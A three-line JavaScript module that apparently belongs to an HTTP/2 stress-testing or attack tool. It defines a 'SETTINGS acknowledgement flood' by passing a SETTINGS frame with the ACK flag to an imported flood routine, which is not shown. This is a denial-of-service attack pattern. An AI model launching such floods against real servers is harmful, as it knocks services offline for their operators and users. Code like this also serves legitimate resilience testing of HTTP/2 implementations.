import * as wire from '../http2/wire.js';
import { flood } from './flood.js';

export const attack = flood('SETTINGS acknowledgement flood', wire.frame(wire.SETTINGS, wire.ACK, 0));
